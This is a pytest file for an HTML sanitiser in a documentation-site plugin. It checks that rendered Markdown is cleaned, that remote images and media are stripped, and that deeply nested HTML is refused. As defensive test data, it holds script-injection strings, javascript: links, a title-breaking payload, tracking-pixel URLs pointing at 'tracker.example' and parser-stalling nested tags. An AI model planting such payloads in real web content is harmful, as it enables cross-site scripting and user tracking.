    if re.search(r"alert\(\d+\)", html) and "<" in html:
        found += [f"payload text {m!r} left in markup" for m in re.findall(r"<[^>]*alert\(\d+\)[^>]*>", html)]
    # Comments stay (Material's icons carry them): one comment node each, whatever is inside.
    comments = tree.find_all(string=lambda text: isinstance(text, Comment))
    if len(comments) != html.count("<!--"):
        found.append("a comment's text became markup")
    return found


def test_sanitize_neutralises_hostile_markdown() -> None:
    raw = render(HOSTILE_MARKDOWN)
    assert neutralised(raw), "the hostile corpus is hostile before sanitising"
    clean = sanitize_html(raw)
    assert not neutralised(clean), neutralised(clean)
    tree = BeautifulSoup(clean, "html.parser")
    assert tree.find("h1", id="fine-heading") is not None
    assert [a.get("href") for a in tree.find_all("a") if a.get_text() == "ok link"] == ["https://example.com/"]
    assert tree.find("td", string="cell")["style"] == "text-align:right"  # type: ignore[index]


def shape(html: str) -> list[tuple[str, dict[str, str]]]:
    """Elements and attributes, with the differences that do not matter smoothed away."""
    elements = []
    for element in BeautifulSoup(html, "html.parser").find_all(True):
        attributes = {}
        for name, value in element.attrs.items():
            text = " ".join(value) if isinstance(value, list) else str(value)
            if name == "style":
                text = text.replace(" ", "").rstrip(";")
            if name in ("disabled", "checked"):
                text = ""
            attributes[name] = text
        elements.append((element.name, attributes))
    return elements


def test_sanitize_keeps_ordinary_markdown_output() -> None:
    raw = render(ORDINARY)
    clean = sanitize_html(raw)
    assert shape(clean) == shape(raw)
    assert BeautifulSoup(clean, "html.parser").get_text() == BeautifulSoup(raw, "html.parser").get_text()
    tree = BeautifulSoup(clean, "html.parser")
    assert tree.select_one('h2#section-one a.headerlink[href="#section-one"]') is not None
    assert tree.select_one("div.admonition.note p.admonition-title") is not None
    assert tree.select_one("div.highlight pre code span.k") is not None, "Pygments' spans survive"
    assert tree.select_one('div[data-audience="managers"]') is not None


def test_sanitize_refuses_deep_nesting_quickly_and_is_linear_otherwise() -> None:
    """HTML parsers work in proportion to the nesting depth for every element: 50,000 nested
    tags would keep the sanitiser busy for a quarter of a minute, so they are refused."""
    started = time.perf_counter()
    with pytest.raises(SanitizeError, match="nests 50000 elements deep"):
        sanitize_html("<div>" * 50_000 + "x" + "</div>" * 50_000)
    assert time.perf_counter() - started < 2
    assert sanitize_html("<ul><li>" * 100 + "x" + "</li></ul>" * 100).count("<li>") == 100
    started = time.perf_counter()
    sanitize_html(("<div>" * 200 + "x" + "</div>" * 200) * 500 + "<p>" + "a &amp; <b>b</b> " * 50_000 + "</p>")
    assert time.perf_counter() - started < 10


def test_sanitize_setting_and_front_matter() -> None:
    def policy(extra: dict[str, Any] | None, site_url: str | None = None) -> Policy:
        return parse_options(extra, site_url).sanitize

    assert policy({}) == policy(None) == policy({"rolepath": {}}) == Policy(rolepath_pages=True, ordinary_pages=False)
    assert policy({"rolepath": {"sanitize": True}}) == Policy()
    assert policy({"rolepath": {"sanitize": False}}) == Policy(rolepath_pages=False)
    assert policy({"rolepath": {"sanitize": {"pages": True}}}, "https://x.example/") == Policy(
        True, True, "https://x.example/"
    )
    with pytest.raises(OptionsError, match=re.escape("must be true, false or {pages: true}")):
        policy({"rolepath": {"sanitize": "yes"}})
    with pytest.raises(OptionsError, match="unknown option 'page'"):
        policy({"rolepath": {"sanitize": {"page": True}}})
    with pytest.raises(OptionsError, match="pages: 'yes' must be true or false"):
        policy({"rolepath": {"sanitize": {"pages": "yes"}}})
    with pytest.raises(OptionsError, match="must be a mapping"):
        policy({"rolepath": "sanitize"})  # a mapping is asked for the same way for every option
    meta: dict[str, Any] = {"title": "</title><script>x()</script>", "description": '"><x>', "n": 1}
    escape_meta(meta)
    assert meta == {
        "title": "&lt;/title&gt;&lt;script&gt;x()&lt;/script&gt;",
        "description": "&quot;&gt;&lt;x&gt;",
        "n": 1,
    }


def test_sanitized_build_publishes_no_markup_from_markdown(tmp_path: Path) -> None:
    """With ``sanitize: {pages: true}`` the built pages carry none of the hostile Markdown's
    markup: not in a module, a one-pager, an ordinary page or the home page."""
    site = build_site(hostile_everywhere_portal(tmp_path, {"sanitize": {"pages": True}}))
    found = []
    for url in ("modules/prompting-basics/index.html", "leaders/speak-up/index.html", "about/index.html", "index.html"):
        found += [f"{url}: {problem}" for problem in neutralised(article_html(site, url))]
    assert not found, found


def article_html(site: Path, url: str) -> str:
    """The page's article, without Material's own edit button (an icon rolepath did not sanitise)."""
    article = BeautifulSoup((site / url).read_text("utf-8"), "html.parser").select_one("article")
    assert article is not None
    for button in article.select(".md-content__button"):
        button.decompose()
    return str(article)


def hostile_everywhere_portal(tmp_path: Path, rolepath_options: dict[str, Any]) -> Path:
    portal = small_portal()
    portal["modules"]["prompting-basics"]["body"] = HOSTILE_MARKDOWN
    portal["leaders"] = {
        "speak-up": {
            "title": "Speak up",
            "summary": "What to say.",
            "phrases": [{"instead_of": "No.", "say": "Tell me more."}],
            "body": HOSTILE_MARKDOWN,
        }
    }
    portal["pages"] = {"index.md": "# Home\n\n" + HOSTILE_MARKDOWN, "about.md": HOSTILE_MARKDOWN}
    config = {
        "extra": {"rolepath": rolepath_options},
        "markdown_extensions": [*EXTENSIONS[:-1], {"pymdownx.tasklist": {"custom_checkbox": True}}],
    }
    return make_portal(tmp_path, **portal, config=config)


def test_sanitising_is_on_by_default_for_what_rolepath_renders(tmp_path: Path) -> None:
    """No setting: modules and one-pagers are sanitised (no live ``javascript:`` link from
    ``[x](javascript:...)`` or ``<a href="javascript:...">``); ordinary pages are passed through."""
    site = build_site(hostile_everywhere_portal(tmp_path, {}))
    for url in ("modules/prompting-basics/index.html", "leaders/speak-up/index.html"):
        article = article_html(site, url)
        assert not neutralised(article), (url, neutralised(article))
        links = [a.get("href", "") for a in BeautifulSoup(article, "html.parser").find_all("a")]
        assert not [href for href in links if "script" in str(href).lower()], links
        assert "markdown js" in article and "js link" in article  # the link text stays, as text
    about = article_html(site, "about/index.html")
    assert '<a href="javascript:alert(3)">' in about and "<script>alert(1)</script>" in about


def test_sanitize_false_is_the_opt_out(tmp_path: Path) -> None:
    site = build_site(hostile_everywhere_portal(tmp_path, {"sanitize": False}))
    module = article_html(site, "modules/prompting-basics/index.html")
    assert '<a href="javascript:alert(7)">markdown js</a>' in module and "<script>alert(1)</script>" in module


@pytest.mark.parametrize(
    ("value", "message"),
    [
        ("yes", "extra: rolepath: sanitize: 'yes' must be true, false or {pages: true}"),
        ({"pages": "on"}, "extra: rolepath: sanitize: pages: 'on' must be true or false"),
        ({"modules": True}, "extra: rolepath: sanitize: unknown option 'modules': the one option is 'pages'"),
    ],
)
def test_a_bad_sanitize_setting_names_mkdocs_yml(
    tmp_path: Path, value: object, message: str, caplog: pytest.LogCaptureFixture
) -> None:
    root = make_portal(tmp_path, **small_portal(), config={"extra": {"rolepath": {"sanitize": value}}})
    lines = (root / "mkdocs.yml").read_text(encoding="utf-8").splitlines()
    line = next(number for number, text in enumerate(lines, 1) if text.strip().startswith("sanitize:"))
    with pytest.raises(Abort):
        build_site(root)
    assert f"rolepath: mkdocs.yml:{line}: {message}" in caplog.text


REMOTE_RESOURCES = """\
# Resources

<img src="https://tracker.example/p.gif" alt="pixel">
<img src="//tracker.example/q.gif"> <img src="/\\tracker.example/r.gif"> <img src="ht&#x09;tps://tracker.example/s.gif">
<img src="pic.png" srcset="https://tracker.example/big.png 2x" alt="local">
<img src="/img/root.png"> <img src="https://learning.example.com/own.png">
<video src="https://tracker.example/v.mp4" poster="https://tracker.example/poster.png">
<source src="//tracker.example/v.webm"><track src="https://tracker.example/t.vtt"></video>
<audio src="https://tracker.example/a.mp3"></audio>

[a link elsewhere](https://other.example/page) <a href="//other.example/b">b</a>
"""

_URL_ATTRIBUTES = ("src", "srcset", "poster", "data", "background", "href", "xlink:href", "action")


def test_resources_load_from_the_portal_s_own_host_only(tmp_path: Path) -> None:
    """A page talks to no host but the portal's own: images and media from another host (or
    protocol-relative, or written to look relative) are removed; links to other hosts stay."""
    portal = small_portal()
    portal["modules"]["prompting-basics"]["body"] = REMOTE_RESOURCES
    config = {"site_url": "https://learning.example.com/", "markdown_extensions": EXTENSIONS}
    site = build_site(make_portal(tmp_path, **portal, config=config))
    article = BeautifulSoup(article_html(site, "modules/prompting-basics/index.html"), "html.parser")
    loads = [
        (element.name, name, str(element[name]))
        for element in article.find_all(True)
        for name in _URL_ATTRIBUTES
        if name in element.attrs and not (element.name == "a" and name == "href")
    ]
    assert [src for _, _, src in loads if "tracker" in src or src.startswith("//")] == [], loads
    assert sorted(src for _, _, src in loads) == ["/img/root.png", "https://learning.example.com/own.png", "pic.png"]
    assert not article.find_all(["video", "audio", "source", "track"])
    assert article.find("img", alt="pixel") is not None, "the image's text stays"
    links = [str(a["href"]) for a in article.find_all("a", href=True)]
    assert "https://other.example/page" in links and "//other.example/b" in links


def test_without_site_url_only_relative_resources_load() -> None:
    assert sanitize_html('<img src="https://learning.example.com/own.png"><img src="a.png">') == (
        '<img><img src="a.png">'
    )


def deep_module_portal(tmp_path: Path, rolepath_options: dict[str, Any]) -> tuple[Path, int]:
    """A module whose raw HTML nests 300 deep, starting on a known line of its file."""
    portal = small_portal()
    portal["modules"]["prompting-basics"]["body"] = (
        "# Deep\n\nSome text.\n\n" + "<div>" * 300 + "x" + "</div>" * 300 + "\n\nAfter.\n"
    )
    root = make_portal(tmp_path, **portal, config={"extra": {"rolepath": rolepath_options}})
    lines = (root / "content/modules/prompting-basics.md").read_text(encoding="utf-8").splitlines()
    return root, next(number for number, text in enumerate(lines, 1) if text.startswith("<div><div>"))


DEEP_MESSAGE = "HTML nests 300 elements deep; the limit is 256: flatten the raw HTML"


@pytest.mark.parametrize("options", [{}, {"sanitize": False}])
def test_html_nested_too_deep_is_one_message_from_check_and_build(
    tmp_path: Path, options: dict[str, Any], caplog: pytest.LogCaptureFixture
) -> None:
    root, line = deep_module_portal(tmp_path, options)
    expected = f"content/modules/prompting-basics.md:{line}: {DEEP_MESSAGE}"
    code, output, _ = check(root)
    assert code == 1 and expected in output.splitlines(), output
    with pytest.raises(Abort):
        build_site(root)
    errors = [record.getMessage() for record in caplog.records if record.levelname == "ERROR"]
    assert f"rolepath: {expected}" in errors, errors
    assert not any(record.exc_info for record in caplog.records) and "Traceback" not in caplog.text


def test_an_ordinary_page_too_deep_for_the_sanitiser_fails_the_build_with_its_line(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """Ordinary pages are sanitised only when the portal opts them in, so only the build
    knows; it names the page and the line."""
    portal = small_portal()
    portal["pages"] = {"deep.md": "# Deep\n\n" + "<span>" * 300 + "x" + "</span>" * 300 + "\n"}
    root = make_portal(tmp_path, **portal, config={"extra": {"rolepath": {"sanitize": {"pages": True}}}})
    with pytest.raises(Abort):
        build_site(root)
    errors = [record.getMessage() for record in caplog.records if record.levelname == "ERROR"]
    assert f"rolepath: content/deep.md:3: {DEEP_MESSAGE}" in errors, errors
    assert not any(record.exc_info for record in caplog.records)
